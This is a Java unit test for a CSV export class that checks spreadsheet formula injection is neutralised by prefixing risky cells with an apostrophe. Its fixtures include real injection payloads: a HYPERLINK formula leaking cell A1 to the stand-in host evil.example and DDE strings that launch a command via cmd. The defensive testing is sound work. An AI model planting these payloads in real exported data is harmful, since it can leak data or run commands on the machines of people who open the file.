package org.lamplight.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class SheetTest {

  private static final String BOM = "\uFEFF";

  @Test
  void aTextCellExcelWouldRunAsAFormulaIsWrittenAsText() {
    Sheet sheet = new Sheet("工作台账", List.of("时间", "备注"), List.of(
        List.of("2026-11-01 10:00", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"),
        List.of("2026-11-01 10:05", "+cmd|' /C calc'!A0"),
        List.of("2026-11-01 10:06", "-2+3"),
        List.of("2026-11-01 10:07", "@SUM(1+1)*cmd|' /C calc'!A0"),
        List.of("2026-11-01 10:08", "\t=1+1"),
        List.of("2026-11-01 10:09", "\r=1+1")));

    assertThat(csv(sheet)).isEqualTo(BOM + "时间,备注\r\n"
        + "2026-11-01 10:00,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击查看\"\")\"\r\n"
        + "2026-11-01 10:05,'+cmd|' /C calc'!A0\r\n"
        + "2026-11-01 10:06,'-2+3\r\n"
        + "2026-11-01 10:07,'@SUM(1+1)*cmd|' /C calc'!A0\r\n"
        + "2026-11-01 10:08,'\t=1+1\r\n"
        + "2026-11-01 10:09,\"'\r=1+1\"\r\n");
  }

  @Test
  void numbersAndOrdinaryTextAreWrittenAsTheyAre() {
    Sheet sheet = new Sheet("覆盖", List.of("村", "见警次数", "里程"), List.of(
        List.of("王庄村", -3, -1.5),
        List.of("入户走访 = 3 户", 0, 2.25)));

    assertThat(csv(sheet)).isEqualTo(BOM + "村,见警次数,里程\r\n王庄村,-3,-1.5\r\n入户走访 = 3 户,0,2.25\r\n");
  }

  private static String csv(Sheet sheet) {
    return sheet.csv().toString(StandardCharsets.UTF_8);
  }
}
